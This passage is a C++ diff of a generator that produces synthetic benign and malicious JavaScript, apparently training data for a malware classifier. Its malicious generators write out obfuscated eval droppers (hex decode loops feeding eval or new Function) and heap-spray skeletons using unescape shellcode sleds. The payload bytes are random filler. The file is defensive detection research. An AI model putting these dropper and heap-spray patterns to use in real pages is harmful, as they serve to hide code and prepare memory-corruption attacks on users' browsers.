@@ -1,0 +1,1244 @@
+#include "dataset/generator.h"
+
+#include <array>
+#include <memory>
+#include <string>
+#include <vector>
+
+#include "obfuscators/obfuscator.h"
+#include "js/parser.h"
+#include "js/printer.h"
+#include "obfuscators/transforms.h"
+#include "util/string_util.h"
+
+namespace jsrev::dataset {
+namespace {
+
+// ---------------------------------------------------------------------------
+// Identifier dictionaries. Benign names read like app/library code; the
+// malicious generators use their own shadier mixtures below.
+// ---------------------------------------------------------------------------
+
+const std::vector<std::string> kNouns = {
+    "item",   "value",  "result", "config",  "options", "element", "node",
+    "list",   "index",  "count",  "total",   "data",    "entry",   "key",
+    "name",   "state",  "event",  "handler", "target",  "buffer",  "cache",
+    "widget", "panel",  "button", "input",   "field",   "form",    "row",
+    "column", "chart",  "player", "track",   "frame",   "scene",   "layer",
+    "queue",  "worker", "task",   "timer",   "offset",  "length",  "size"};
+
+const std::vector<std::string> kVerbs = {
+    "get",    "set",     "update", "render",  "init",    "load",   "save",
+    "parse",  "format",  "build",  "create",  "remove",  "insert", "append",
+    "toggle", "show",    "hide",   "enable",  "disable", "reset",  "apply",
+    "merge",  "filter",  "map",    "reduce",  "find",    "sort",   "clamp",
+    "attach", "detach",  "bind",   "emit",    "handle",  "resolve", "flush"};
+
+const std::vector<std::string> kProps = {
+    "controls", "options",  "autoplay", "volume",  "width",   "height",
+    "duration", "position", "visible",  "enabled", "theme",   "locale",
+    "retries",  "timeout",  "delay",    "speed",   "loop",    "muted",
+    "preload",  "quality",  "source",   "title",   "label",   "tooltip"};
+
+const std::vector<std::string> kDomMethods = {
+    "getElementById",       "querySelector",    "createElement",
+    "appendChild",          "removeChild",      "addEventListener",
+    "setAttribute",         "getAttribute",     "insertBefore",
+    "querySelectorAll",     "removeEventListener"};
+
+struct Gen {
+  Rng& rng;
+  int uid = 0;
+
+  std::string fresh(const std::string& base) {
+    return base + std::to_string(uid++);
+  }
+  const std::string& noun() { return rng.pick(kNouns); }
+  const std::string& verb() { return rng.pick(kVerbs); }
+  const std::string& prop() { return rng.pick(kProps); }
+  std::string camel(const std::string& v, const std::string& n) {
+    std::string s = n;
+    s[0] = static_cast<char>(s[0] - 'a' + 'A');
+    return v + s;
+  }
+  int num(int lo, int hi) { return static_cast<int>(rng.between(lo, hi)); }
+  std::string quoted(const std::string& s) { return "\"" + s + "\""; }
+};
+
+// ---------------------------------------------------------------------------
+// Benign genres — code that *implements functionality*: configuration
+// objects, function structure, call dispatch. This is the structural signal
+// the paper's Table VII associates with benign scripts.
+// ---------------------------------------------------------------------------
+
+std::string gen_widget_config(Gen& g) {
+  // Media/widget setup with an options object and defaults merging — the
+  // `options.controls` pattern from the paper's first central path.
+  const std::string widget = g.fresh("widget");
+  const std::string opts = g.fresh("options");
+  const std::string defaults = g.fresh("defaults");
+  std::string s;
+  s += "var " + defaults + " = {";
+  const int nprops = g.num(4, 8);
+  for (int i = 0; i < nprops; ++i) {
+    if (i) s += ", ";
+    s += g.prop() + std::to_string(i) + ": " +
+         (g.rng.chance(0.4) ? std::to_string(g.num(0, 100))
+                            : (g.rng.chance(0.5) ? "true" : "false"));
+  }
+  s += "};\n";
+  s += "var themes" + std::to_string(g.num(0, 9)) +
+       " = [\"light\", \"dark\", \"contrast\", \"" + g.noun() + "\", \"" +
+       g.noun() + "\"];\n";
+  s += "function " + g.camel("init", widget) + "(" + opts + ") {\n";
+  s += "  var controls = " + opts + ".controls;\n";
+  s += "  var merged = {};\n";
+  s += "  for (var key in " + defaults + ") {\n";
+  s += "    merged[key] = " + defaults + "[key];\n";
+  s += "  }\n";
+  s += "  for (var key2 in " + opts + ") {\n";
+  s += "    merged[key2] = " + opts + "[key2];\n";
+  s += "  }\n";
+  s += "  if (controls) {\n";
+  s += "    var bar = document.createElement(\"div\");\n";
+  s += "    bar.setAttribute(\"class\", \"" + widget + "-controls\");\n";
+  s += "    merged.container.appendChild(bar);\n";
+  s += "  }\n";
+  s += "  return merged;\n";
+  s += "}\n";
+  const int nsetters = g.num(2, 4);
+  for (int i = 0; i < nsetters; ++i) {
+    const std::string p = g.prop();
+    s += "function " + g.camel("set", p) + std::to_string(i) + "(" + widget +
+         ", value) {\n";
+    s += "  if (value === undefined) { return " + widget + "." + p + "; }\n";
+    s += "  " + widget + "." + p + " = value;\n";
+    s += "  " + widget + ".dirty = true;\n";
+    s += "  return " + widget + ";\n";
+    s += "}\n";
+  }
+  return s;
+}
+
+std::string gen_dom_ui(Gen& g) {
+  const std::string panel = g.fresh("panel");
+  const std::string btn = g.fresh("button");
+  std::string s;
+  s += "var " + panel + " = document." + g.rng.pick(kDomMethods) + "(\"" +
+       g.noun() + "-root\");\n";
+  const int nhandlers = g.num(2, 5);
+  for (int i = 0; i < nhandlers; ++i) {
+    const std::string evt = g.rng.chance(0.5) ? "click" : "change";
+    const std::string handler = g.fresh("on") + g.noun();
+    s += "function " + handler + "(event) {\n";
+    s += "  var target = event.target;\n";
+    s += "  if (!target) { return; }\n";
+    if (g.rng.chance(0.5)) {
+      s += "  target.className = target.className === \"active\" ? \"\" : "
+           "\"active\";\n";
+    } else {
+      s += "  var label = target.getAttribute(\"data-label\");\n";
+      s += "  if (label) { target.textContent = label; }\n";
+    }
+    s += "}\n";
+    s += panel + ".addEventListener(\"" + evt + "\", " + handler + ");\n";
+  }
+  s += "var " + btn + " = document.createElement(\"button\");\n";
+  s += btn + ".textContent = \"" + g.verb() + "\";\n";
+  s += panel + ".appendChild(" + btn + ");\n";
+  return s;
+}
+
+std::string gen_utility_module(Gen& g) {
+  // Module pattern exporting small pure helpers.
+  const std::string mod = g.fresh("utils");
+  std::string s;
+  s += "var " + mod + " = (function() {\n";
+  const int nfns = g.num(3, 6);
+  std::vector<std::string> names;
+  for (int i = 0; i < nfns; ++i) {
+    const std::string fn = g.camel(g.verb(), g.noun()) + std::to_string(i);
+    names.push_back(fn);
+    switch (g.rng.below(4)) {
+      case 0:
+        s += "  function " + fn + "(list, fn) {\n";
+        s += "    var out = [];\n";
+        s += "    for (var i = 0; i < list.length; i++) {\n";
+        s += "      if (fn(list[i], i)) { out.push(list[i]); }\n";
+        s += "    }\n";
+        s += "    return out;\n";
+        s += "  }\n";
+        break;
+      case 1:
+        s += "  function " + fn + "(value, lo, hi) {\n";
+        s += "    if (value < lo) { return lo; }\n";
+        s += "    if (value > hi) { return hi; }\n";
+        s += "    return value;\n";
+        s += "  }\n";
+        break;
+      case 2:
+        s += "  function " + fn + "(text, width) {\n";
+        s += "    var pad = \"\";\n";
+        s += "    while (pad.length + text.length < width) { pad += \" \"; }\n";
+        s += "    return pad + text;\n";
+        s += "  }\n";
+        break;
+      default:
+        s += "  function " + fn + "(a, b) {\n";
+        s += "    var merged = {};\n";
+        s += "    for (var k in a) { merged[k] = a[k]; }\n";
+        s += "    for (var k2 in b) { merged[k2] = b[k2]; }\n";
+        s += "    return merged;\n";
+        s += "  }\n";
+        break;
+    }
+  }
+  s += "  return {";
+  for (std::size_t i = 0; i < names.size(); ++i) {
+    if (i) s += ", ";
+    s += names[i] + ": " + names[i];
+  }
+  s += "};\n";
+  s += "})();\n";
+  return s;
+}
+
+std::string gen_ajax_wrapper(Gen& g) {
+  const std::string fn = g.fresh("request");
+  std::string s;
+  s += "function " + fn + "(url, options, callback) {\n";
+  s += "  var retries = options.retries || " + std::to_string(g.num(1, 5)) +
+       ";\n";
+  s += "  var attempts = 0;\n";
+  s += "  function attempt() {\n";
+  s += "    attempts++;\n";
+  s += "    var xhr = new XMLHttpRequest();\n";
+  s += "    xhr.open(options.method || \"GET\", url, true);\n";
+  s += "    xhr.onreadystatechange = function() {\n";
+  s += "      if (xhr.readyState !== 4) { return; }\n";
+  s += "      if (xhr.status >= 200 && xhr.status < 300) {\n";
+  s += "        callback(null, xhr.responseText);\n";
+  s += "      } else if (attempts < retries) {\n";
+  s += "        setTimeout(attempt, " + std::to_string(g.num(100, 2000)) +
+       ");\n";
+  s += "      } else {\n";
+  s += "        callback(new Error(\"request failed\"), null);\n";
+  s += "      }\n";
+  s += "    };\n";
+  s += "    xhr.send(options.body || null);\n";
+  s += "  }\n";
+  s += "  attempt();\n";
+  s += "}\n";
+  const int ncalls = g.num(1, 3);
+  for (int i = 0; i < ncalls; ++i) {
+    s += fn + "(\"/api/" + g.noun() + "\", {method: \"GET\", retries: " +
+         std::to_string(g.num(1, 4)) + "}, function(err, body) {\n";
+    s += "  if (err) { console.error(err); return; }\n";
+    s += "  var parsed = JSON.parse(body);\n";
+    s += "  render" + std::to_string(i) + "(parsed." + g.noun() + ");\n";
+    s += "});\n";
+  }
+  return s;
+}
+
+std::string gen_form_validation(Gen& g) {
+  const std::string form = g.fresh("form");
+  std::string s;
+  s += "var " + form + " = document.getElementById(\"" + g.noun() +
+       "-form\");\n";
+  s += "var validators = {\n";
+  s += "  required: function(value) { return value.length > 0; },\n";
+  s += "  email: function(value) { return /^[^@]+@[^@]+$/.test(value); },\n";
+  s += "  number: function(value) { return !isNaN(parseFloat(value)); }\n";
+  s += "};\n";
+  s += "function validate(fields) {\n";
+  s += "  var errors = [];\n";
+  s += "  for (var i = 0; i < fields.length; i++) {\n";
+  s += "    var field = fields[i];\n";
+  s += "    var rules = field.getAttribute(\"data-rules\").split(\",\");\n";
+  s += "    for (var j = 0; j < rules.length; j++) {\n";
+  s += "      var rule = validators[rules[j]];\n";
+  s += "      if (rule && !rule(field.value)) {\n";
+  s += "        errors.push({field: field.name, rule: rules[j]});\n";
+  s += "      }\n";
+  s += "    }\n";
+  s += "  }\n";
+  s += "  return errors;\n";
+  s += "}\n";
+  s += form + ".addEventListener(\"submit\", function(event) {\n";
+  s += "  var errors = validate(" + form +
+       ".querySelectorAll(\"[data-rules]\"));\n";
+  s += "  if (errors.length > 0) {\n";
+  s += "    event.preventDefault();\n";
+  s += "    showErrors(errors);\n";
+  s += "  }\n";
+  s += "});\n";
+  return s;
+}
+
+std::string util_fraction(Gen& g) {
+  return "0." + std::to_string(g.num(1, 9));
+}
+
+std::string gen_animation(Gen& g) {
+  const std::string el = g.fresh("sprite");
+  std::string s;
+  s += "var " + el + " = document.querySelector(\"." + g.noun() + "\");\n";
+  s += "var startTime = null;\n";
+  s += "var duration = " + std::to_string(g.num(300, 3000)) + ";\n";
+  s += "function easeInOut(t) {\n";
+  s += "  return t < 0.5 ? 2 * t * t : 1 - (2 - 2 * t) * (2 - 2 * t) / 2;\n";
+  s += "}\n";
+  s += "function step(timestamp) {\n";
+  s += "  if (!startTime) { startTime = timestamp; }\n";
+  s += "  var progress = (timestamp - startTime) / duration;\n";
+  s += "  if (progress > 1) { progress = 1; }\n";
+  s += "  var eased = easeInOut(progress);\n";
+  s += "  " + el + ".style.left = Math.round(eased * " +
+       std::to_string(g.num(100, 800)) + ") + \"px\";\n";
+  s += "  " + el + ".style.opacity = String(1 - eased * " +
+       util_fraction(g) + ");\n";
+  s += "  if (progress < 1) { requestAnimationFrame(step); }\n";
+  s += "}\n";
+  s += "requestAnimationFrame(step);\n";
+  return s;
+}
+
+std::string gen_date_format(Gen& g) {
+  // Mirrors the paper's Listing-1 flavor: timezone/date formatting helpers.
+  // Benign code legitimately carries string arrays (month names, locales).
+  std::string s;
+  s += "var monthNames = [\"Jan\", \"Feb\", \"Mar\", \"Apr\", \"May\", "
+       "\"Jun\", \"Jul\", \"Aug\", \"Sep\", \"Oct\", \"Nov\", \"Dec\"];\n";
+  s += "var dayNames = [\"Sun\", \"Mon\", \"Tue\", \"Wed\", \"Thu\", "
+       "\"Fri\", \"Sat\"];\n";
+  s += "function pad(n) {\n";
+  s += "  return n < 10 ? \"0\" + n : String(n);\n";
+  s += "}\n";
+  s += "function getTimezoneOffsetString(dateStr) {\n";
+  s += "  var timeZoneMinutes = new Date(dateStr).getTimezoneOffset();\n";
+  s += "  var hours = Math.floor(timeZoneMinutes / 60);\n";
+  s += "  var minutes = timeZoneMinutes % 60;\n";
+  s += "  if (hours < 0) {\n";
+  s += "    return \"-\" + pad(-hours) + \":\" + pad(minutes);\n";
+  s += "  } else {\n";
+  s += "    return \"+\" + pad(hours) + \":\" + pad(minutes);\n";
+  s += "  }\n";
+  s += "}\n";
+  const std::string fmt = g.fresh("format");
+  s += "function " + fmt + "(date) {\n";
+  s += "  var y = date.getFullYear();\n";
+  s += "  var m = pad(date.getMonth() + 1);\n";
+  s += "  var d = pad(date.getDate());\n";
+  const std::string sep = g.rng.chance(0.5) ? "-" : "/";
+  s += "  return y + \"" + sep + "\" + m + \"" + sep + "\" + d;\n";
+  s += "}\n";
+  s += "var label" + std::to_string(g.num(0, 99)) + " = " + fmt +
+       "(new Date()) + \" \" + getTimezoneOffsetString(\"2020-01-01\");\n";
+  return s;
+}
+
+std::string gen_prototype_class(Gen& g) {
+  const std::string cls = g.fresh("Model");
+  std::string s;
+  s += "function " + cls + "(name, options) {\n";
+  s += "  this.name = name;\n";
+  s += "  this.options = options || {};\n";
+  s += "  this.listeners = [];\n";
+  s += "}\n";
+  const int nmethods = g.num(2, 5);
+  for (int i = 0; i < nmethods; ++i) {
+    const std::string m = g.camel(g.verb(), g.noun()) + std::to_string(i);
+    switch (g.rng.below(3)) {
+      case 0:
+        s += cls + ".prototype." + m + " = function(listener) {\n";
+        s += "  this.listeners.push(listener);\n";
+        s += "  return this;\n";
+        s += "};\n";
+        break;
+      case 1:
+        s += cls + ".prototype." + m + " = function(payload) {\n";
+        s += "  for (var i = 0; i < this.listeners.length; i++) {\n";
+        s += "    this.listeners[i].call(this, payload);\n";
+        s += "  }\n";
+        s += "};\n";
+        break;
+      default:
+        s += cls + ".prototype." + m + " = function(key, fallback) {\n";
+        s += "  var value = this.options[key];\n";
+        s += "  return value === undefined ? fallback : value;\n";
+        s += "};\n";
+        break;
+    }
+  }
+  s += "var instance" + std::to_string(g.num(0, 99)) + " = new " + cls +
+       "(\"" + g.noun() + "\", {cacheSize: " + std::to_string(g.num(8, 256)) +
+       "});\n";
+  return s;
+}
+
+// Benign structural twins of the malicious families. Real benign corpora
+// share statement-level skeletons with malware — legacy XHR shims probe
+// ActiveXObject in try/catch chains, color parsers run parseInt/substr
+// loops, autosave serializes form fields, text utilities double strings in
+// while loops. What separates the classes is what the data is used FOR
+// (eval/exfil vs. rendering), i.e. expression- and value-level detail.
+
+std::string gen_hex_parser(Gen& g) {
+  // Color/binary parsing: same substr+parseInt+fromCharCode loop skeleton
+  // as a dropper's decode loop, but feeding rendering instead of eval.
+  const std::string fn = g.fresh("parseColor");
+  std::string s;
+  s += "function " + fn + "(hex) {\n";
+  s += "  var channels = [];\n";
+  s += "  for (var i = 1; i < hex.length; i += 2) {\n";
+  s += "    var part = parseInt(hex.substr(i, 2), 16);\n";
+  s += "    channels.push(part);\n";
+  s += "  }\n";
+  s += "  return \"rgb(\" + channels.join(\",\") + \")\";\n";
+  s += "}\n";
+  s += "function decodeEntities(text) {\n";
+  s += "  var out = \"\";\n";
+  s += "  for (var i = 0; i < text.length; i++) {\n";
+  s += "    var code = text.charCodeAt(i);\n";
+  s += "    if (code > 127) { out += \"&#\" + code + \";\"; }\n";
+  s += "    else { out += String.fromCharCode(code); }\n";
+  s += "  }\n";
+  s += "  return out;\n";
+  s += "}\n";
+  s += "document.body.style.background = " + fn + "(\"#" +
+       std::to_string(g.num(100000, 999999)) + "\");\n";
+  return s;
+}
+
+std::string gen_text_fill(Gen& g) {
+  // String doubling/padding: the heap-spray while-doubling skeleton used
+  // for a separator line / placeholder text.
+  const std::string v = g.fresh("filler");
+  std::string s;
+  s += "var " + v + " = \"" + std::string(1, static_cast<char>('a' + g.num(0, 25))) + "\";\n";
+  s += "while (" + v + ".length < " + std::to_string(g.num(40, 200)) + ") {\n";
+  s += "  " + v + " += " + v + ";\n";
+  s += "}\n";
+  s += v + " = " + v + ".substring(0, " + std::to_string(g.num(20, 80)) +
+       ");\n";
+  s += "var placeholders = new Array();\n";
+  s += "for (var i = 0; i < " + std::to_string(g.num(3, 12)) + "; i++) {\n";
+  s += "  placeholders[i] = " + v + " + \" \" + i;\n";
+  s += "}\n";
+  return s;
+}
+
+std::string gen_xhr_shim(Gen& g) {
+  // Legacy cross-browser XHR factory: try/catch ActiveXObject probing —
+  // the classic benign skeleton shared with ActiveX droppers.
+  const std::string fn = g.fresh("createXhr");
+  std::string s;
+  s += "function " + fn + "() {\n";
+  s += "  var candidates = [\"Msxml2.XMLHTTP\", \"Microsoft.XMLHTTP\"];\n";
+  s += "  if (window.XMLHttpRequest) { return new XMLHttpRequest(); }\n";
+  s += "  for (var i = 0; i < candidates.length; i++) {\n";
+  s += "    try {\n";
+  s += "      return new ActiveXObject(candidates[i]);\n";
+  s += "    } catch (e) {\n";
+  s += "      continue;\n";
+  s += "    }\n";
+  s += "  }\n";
+  s += "  return null;\n";
+  s += "}\n";
+  s += "var transport" + std::to_string(g.num(0, 9)) + " = " + fn + "();\n";
+  return s;
+}
+
+std::string gen_form_autosave(Gen& g) {
+  // Reads every form field and ships it to the app's own API — the
+  // skimmer skeleton with a legitimate destination.
+  const std::string buf = g.fresh("draft");
+  std::string s;
+  s += "var " + buf + " = [];\n";
+  s += "function collectDraft() {\n";
+  s += "  var inputs = document.getElementsByTagName(\"input\");\n";
+  s += "  for (var i = 0; i < inputs.length; i++) {\n";
+  s += "    if (inputs[i].name && inputs[i].value) {\n";
+  s += "      " + buf + ".push(inputs[i].name + \"=\" + "
+       "encodeURIComponent(inputs[i].value));\n";
+  s += "    }\n";
+  s += "  }\n";
+  s += "}\n";
+  s += "function saveDraft() {\n";
+  s += "  if (" + buf + ".length === 0) { return; }\n";
+  s += "  var xhr = new XMLHttpRequest();\n";
+  s += "  xhr.open(\"POST\", \"/api/draft\", true);\n";
+  s += "  xhr.send(" + buf + ".join(\"&\"));\n";
+  s += "  " + buf + " = [];\n";
+  s += "}\n";
+  s += "document.addEventListener(\"change\", collectDraft);\n";
+  s += "setInterval(saveDraft, " + std::to_string(g.num(5000, 30000)) +
+       ");\n";
+  return s;
+}
+
+std::string gen_login_redirect(Gen& g) {
+  // URL building + location redirect for auth flows: redirector skeleton
+  // with a legitimate same-site destination.
+  std::string s;
+  s += "var returnTo = encodeURIComponent(location.pathname + "
+       "location.search);\n";
+  s += "var loginUrl = \"/account/login?next=\" + returnTo;\n";
+  s += "function requireAuth(session) {\n";
+  s += "  if (!session || !session.token) {\n";
+  if (g.rng.chance(0.5)) {
+    s += "    window.location.href = loginUrl;\n";
+  } else {
+    s += "    setTimeout(function() { location.replace(loginUrl); }, " +
+         std::to_string(g.num(50, 500)) + ");\n";
+  }
+  s += "    return false;\n";
+  s += "  }\n";
+  s += "  return true;\n";
+  s += "}\n";
+  return s;
+}
+
+std::string gen_vector_math(Gen& g) {
+  // Numeric utility code: identifier-dense arithmetic indistinguishable at
+  // the AST-kind level from decode/hash loops.
+  const std::string ns = g.fresh("vec");
+  std::string s;
+  s += "function " + ns + "Dot(a, b) {\n";
+  s += "  var sum = 0;\n";
+  s += "  for (var i = 0; i < a.length; i++) {\n";
+  s += "    sum = sum + a[i] * b[i];\n";
+  s += "  }\n";
+  s += "  return sum;\n";
+  s += "}\n";
+  s += "function " + ns + "Lerp(a, b, t) {\n";
+  s += "  var out = [];\n";
+  s += "  for (var i = 0; i < a.length; i++) {\n";
+  s += "    var d = b[i] - a[i];\n";
+  s += "    out[i] = a[i] + d * t;\n";
+  s += "  }\n";
+  s += "  return out;\n";
+  s += "}\n";
+  if (g.rng.chance(0.6)) {
+    s += "function " + ns + "Norm(a) {\n";
+    s += "  var m = Math.sqrt(" + ns + "Dot(a, a));\n";
+    s += "  var out = [];\n";
+    s += "  var i = 0;\n";
+    s += "  while (i < a.length) {\n";
+    s += "    out[i] = a[i] / m;\n";
+    s += "    i = i + 1;\n";
+    s += "  }\n";
+    s += "  return out;\n";
+    s += "}\n";
+  }
+  return s;
+}
+
+std::string gen_checksum(Gen& g) {
+  // CRC/hash utility: shift/xor loops structurally identical to a
+  // cryptojacker's hash step or a dropper's key schedule.
+  const std::string fn = g.fresh("crc");
+  const int poly = g.num(1000, 999999);
+  std::string s;
+  s += "function " + fn + "(data) {\n";
+  s += "  var h = " + std::to_string(g.num(1, 255)) + ";\n";
+  if (g.rng.chance(0.5)) {
+    s += "  for (var i = 0; i < data.length; i++) {\n";
+    s += "    h = h ^ data.charCodeAt(i);\n";
+    s += "    for (var b = 0; b < 8; b++) {\n";
+    s += "      h = (h >>> 1) ^ ((h & 1) * " + std::to_string(poly) + ");\n";
+    s += "    }\n";
+    s += "  }\n";
+  } else {
+    s += "  var i = 0;\n";
+    s += "  while (i < data.length) {\n";
+    s += "    h = (h << 5) - h + data.charCodeAt(i);\n";
+    s += "    h = h & h;\n";
+    s += "    h = h ^ (h >>> " + std::to_string(g.num(3, 13)) + ");\n";
+    s += "    i++;\n";
+    s += "  }\n";
+  }
+  s += "  return h >>> 0;\n";
+  s += "}\n";
+  s += "var etag" + std::to_string(g.num(0, 99)) + " = " + fn +
+       "(document.title).toString(16);\n";
+  return s;
+}
+
+std::string gen_codec(Gen& g) {
+  // Base-N encoder/decoder: substr/parseInt/fromCharCode loops — the same
+  // expression inventory as payload decoders, used for benign data packing.
+  const std::string enc = g.fresh("pack");
+  const std::string dec = g.fresh("unpack");
+  std::string s;
+  s += "function " + enc + "(text) {\n";
+  s += "  var out = \"\";\n";
+  s += "  for (var i = 0; i < text.length; i++) {\n";
+  s += "    var code = text.charCodeAt(i);\n";
+  s += "    var hi = (code >> 4) & 15;\n";
+  s += "    var lo = code & 15;\n";
+  s += "    out += hi.toString(16) + lo.toString(16);\n";
+  s += "  }\n";
+  s += "  return out;\n";
+  s += "}\n";
+  s += "function " + dec + "(blob) {\n";
+  s += "  var out = \"\";\n";
+  if (g.rng.chance(0.5)) {
+    s += "  for (var i = 0; i < blob.length; i += 2) {\n";
+    s += "    var code = parseInt(blob.substr(i, 2), 16);\n";
+    s += "    out += String.fromCharCode(code);\n";
+    s += "  }\n";
+  } else {
+    s += "  var i = 0;\n";
+    s += "  while (i < blob.length) {\n";
+    s += "    out += String.fromCharCode(parseInt(blob.substr(i, 2), 16));\n";
+    s += "    i += 2;\n";
+    s += "  }\n";
+  }
+  s += "  return out;\n";
+  s += "}\n";
+  s += "localStorage.setItem(\"" + g.noun() + "\", " + enc +
+       "(JSON.stringify({version: " + std::to_string(g.num(1, 9)) +
+       "})));\n";
+  return s;
+}
+
+std::string gen_prng(Gen& g) {
+  // Seeded PRNG (games/simulations): multiply/mask loops.
+  const std::string fn = g.fresh("rand");
+  std::string s;
+  s += "var seed" + std::to_string(g.num(0, 9)) + " = " +
+       std::to_string(g.num(1, 100000)) + ";\n";
+  s += "function " + fn + "(state) {\n";
+  s += "  state = (state * " + std::to_string(g.num(1000, 99999)) + " + " +
+       std::to_string(g.num(1, 12345)) + ") % 2147483647;\n";
+  s += "  var value = state / 2147483647;\n";
+  s += "  return {state: state, value: value};\n";
+  s += "}\n";
+  s += "function shuffle" + std::to_string(g.num(0, 9)) + "(list, state) {\n";
+  s += "  for (var i = list.length - 1; i > 0; i--) {\n";
+  s += "    var r = " + fn + "(state);\n";
+  s += "    state = r.state;\n";
+  s += "    var j = Math.floor(r.value * (i + 1));\n";
+  s += "    var tmp = list[i];\n";
+  s += "    list[i] = list[j];\n";
+  s += "    list[j] = tmp;\n";
+  s += "  }\n";
+  s += "  return list;\n";
+  s += "}\n";
+  return s;
+}
+
+std::string gen_benign_edgecase(Gen& g) {
+  // Legacy benign patterns that overlap with malicious signals: script
+  // injection via document.write, cookie escape/unescape handling, and
+  // charCode-based cache keys. Real benign corpora are full of these, which
+  // is what keeps the classification problem from being trivially separable.
+  std::string s;
+  switch (g.rng.below(3)) {
+    case 0: {
+      // Legacy analytics loader.
+      const std::string host = g.noun() + "-cdn.example";
+      s += "var proto = document.location.protocol === \"https:\" ? "
+           "\"https://\" : \"http://\";\n";
+      s += "document.write(unescape(\"%3Cscript src='\" + proto + \"" + host +
+           "/tag.js'%3E%3C/script%3E\"));\n";
+      break;
+    }
+    case 1: {
+      // Cookie utilities with escape/unescape.
+      s += "function readCookie(name) {\n";
+      s += "  var parts = document.cookie.split(\";\");\n";
+      s += "  for (var i = 0; i < parts.length; i++) {\n";
+      s += "    var pair = parts[i].split(\"=\");\n";
+      s += "    if (pair[0].replace(/^ +/, \"\") === name) {\n";
+      s += "      return unescape(pair[1]);\n";
+      s += "    }\n";
+      s += "  }\n";
+      s += "  return null;\n";
+      s += "}\n";
+      s += "function writeCookie(name, value, days) {\n";
+      s += "  var expires = new Date();\n";
+      s += "  expires.setTime(expires.getTime() + days * 86400000);\n";
+      s += "  document.cookie = name + \"=\" + escape(value) + "
+           "\"; expires=\" + expires.toGMTString();\n";
+      s += "}\n";
+      break;
+    }
+    default: {
+      // String-hash cache keys (charCodeAt loops look "decode-ish").
+      s += "function hashKey(text) {\n";
+      s += "  var h = " + std::to_string(g.num(3, 97)) + ";\n";
+      s += "  for (var i = 0; i < text.length; i++) {\n";
+      s += "    h = (h * 31 + text.charCodeAt(i)) & 0x7fffffff;\n";
+      s += "  }\n";
+      s += "  return h.toString(16);\n";
+      s += "}\n";
+      s += "var cacheBust = hashKey(location.href) + \"-\" + "
+           "String.fromCharCode(" + std::to_string(g.num(97, 122)) + ");\n";
+      break;
+    }
+  }
+  return s;
+}
+
+// ---------------------------------------------------------------------------
+// Malicious families — code that *manipulates data*: decode loops, integer
+// arithmetic on buffers/strings, conditional assignment chains, exfil.
+// ---------------------------------------------------------------------------
+
+std::string hex_blob(Gen& g, int len) {
+  static constexpr char kHex[] = "0123456789abcdef";
+  std::string s;
+  for (int i = 0; i < len; ++i) s += kHex[g.rng.below(16)];
+  return s;
+}
+
+std::string gen_dropper(Gen& g) {
+  // Encoded-payload dropper: charcode arithmetic decode loop feeding eval.
+  // Heavily polymorphic: loop style, decode operator, chunk width, and sink
+  // all vary per sample (real droppers come in thousands of variants, so no
+  // single statement skeleton identifies the family).
+  const std::string payload = g.fresh("p");
+  const std::string out = g.fresh("d");
+  const std::string idx = g.fresh("i");
+  const std::string key = g.fresh("k");
+  const int width = g.rng.chance(0.5) ? 2 : 4;
+  std::string s;
+  s += "var " + payload + " = \"" + hex_blob(g, g.num(120, 400)) + "\";\n";
+  s += "var " + out + " = \"\";\n";
+  s += "var " + key + " = " + std::to_string(g.num(1, 60)) + ";\n";
+
+  std::string decode;
+  decode += "  var code = parseInt(" + payload + ".substr(" + idx + ", " +
+            std::to_string(width) + "), 16);\n";
+  switch (g.rng.below(3)) {
+    case 0:
+      decode += "  code = (code ^ " + key + ") & 255;\n";
+      break;
+    case 1:
+      decode += "  code = (code - " + key + " + 256) % 256;\n";
+      break;
+    default:
+      decode += "  code = (code + " + key + " * " +
+                std::to_string(g.num(2, 9)) + ") & 255;\n";
+      break;
+  }
+  if (g.rng.chance(0.6)) {
+    decode += "  if (code < 32) { code = code + 32; }\n";
+  }
+  decode += "  " + out + " += String.fromCharCode(code);\n";
+  if (g.rng.chance(0.7)) {
+    decode += "  " + key + " = (" + key + " + " +
+              std::to_string(g.num(1, 7)) + ") % 256;\n";
+  }
+
+  switch (g.rng.below(3)) {
+    case 0:
+      s += "for (var " + idx + " = 0; " + idx + " < " + payload +
+           ".length; " + idx + " += " + std::to_string(width) + ") {\n" +
+           decode + "}\n";
+      break;
+    case 1:
+      s += "var " + idx + " = 0;\n";
+      s += "while (" + idx + " < " + payload + ".length) {\n" + decode +
+           "  " + idx + " += " + std::to_string(width) + ";\n}\n";
+      break;
+    default:
+      s += "var " + idx + " = 0;\n";
+      s += "do {\n" + decode + "  " + idx + " += " +
+           std::to_string(width) + ";\n} while (" + idx + " < " + payload +
+           ".length);\n";
+      break;
+  }
+
+  switch (g.rng.below(4)) {
+    case 0:
+      s += "var f = new Function(" + out + ");\nf();\n";
+      break;
+    case 1:
+      s += "eval(" + out + ");\n";
+      break;
+    case 2:
+      s += "window.setTimeout(" + out + ", " + std::to_string(g.num(1, 50)) +
+           ");\n";
+      break;
+    default:
+      s += "document.write(unescape(\"%3Cscript%3E\" + " + out +
+           " + \"%3C/script%3E\"));\n";
+      break;
+  }
+  return s;
+}
+
+std::string gen_heap_spray(Gen& g) {
+  // Polymorphic: sled growth loop style, spray container, trigger variant.
+  const std::string sled = g.fresh("sled");
+  const std::string spray = g.fresh("spray");
+  const std::string shell = g.fresh("sc");
+  std::string s;
+  s += "var " + sled + " = unescape(\"%u" + hex_blob(g, 4) + "%u" +
+       hex_blob(g, 4) + "\");\n";
+  s += "var " + shell + " = unescape(\"%u" + hex_blob(g, 4) + "%u" +
+       hex_blob(g, 4) + "%u" + hex_blob(g, 4) + "\");\n";
+  const std::string target = std::to_string(g.num(60000, 200000));
+  if (g.rng.chance(0.5)) {
+    s += "while (" + sled + ".length < " + target + ") {\n";
+    s += "  " + sled + " += " + sled + ";\n";
+    s += "}\n";
+  } else {
+    s += "for (var r = 0; " + sled + ".length < " + target + "; r++) {\n";
+    s += "  " + sled + " = " + sled + " + " + sled + ";\n";
+    s += "}\n";
+  }
+  if (g.rng.chance(0.7)) {
+    s += sled + " = " + sled + ".substring(0, " + sled + ".length - " +
+         shell + ".length);\n";
+  } else {
+    s += sled + " = " + sled + ".substr(0, " + target + " - " + shell +
+         ".length);\n";
+  }
+  s += "var " + spray + " = " +
+       (g.rng.chance(0.5) ? "new Array()" : "[]") + ";\n";
+  const std::string count = std::to_string(g.num(100, 600));
+  if (g.rng.chance(0.5)) {
+    s += "for (var i = 0; i < " + count + "; i++) {\n";
+    s += "  " + spray + "[i] = " + sled + " + " + shell + ";\n";
+    s += "}\n";
+  } else {
+    s += "var i = 0;\n";
+    s += "while (i < " + count + ") {\n";
